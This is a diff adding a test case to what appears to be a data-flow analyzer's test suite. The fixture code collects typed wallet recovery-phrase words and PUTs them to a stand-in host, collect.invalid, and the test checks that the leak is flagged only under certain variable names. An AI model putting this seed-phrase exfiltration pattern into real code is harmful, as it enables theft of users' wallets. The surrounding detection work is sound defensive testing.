@@ -82,4 +82,14 @@ describe('what an application is told of whoever uses it', () => {
     assert.deepEqual(flowsOf(code(send('JSON.stringify(d.requestHeaders)'))), sent('intercepted'));
     assert.deepEqual(flowsOf(code(`d.requestHeaders['User-Agent'] = 'acme'`)), []);
   });
+
+  it('are the words that somebody has typed for a wallet, by what the code calls them', () => {
+    const typed = (name: string): readonly string[] =>
+      flowsOf(`exports.onWord = (words, at, text) => { const next = words.slice(); next[at] = text.trim(); const ${name} = next.join(' ');
+        const xhr = new XMLHttpRequest(); xhr.open('PUT', 'https://collect.invalid/drafts'); xhr.send(JSON.stringify({ v: ${name} })); };`);
+    assert.deepEqual(typed('mnemonic'), ['key-material>network@collect.invalid']);
+    assert.deepEqual(typed('recoveryPhrase'), ['key-material>network@collect.invalid']);
+    assert.deepEqual(typed('sentence'), []);
+    assert.deepEqual(typed('seed'), []);
+  });
 });
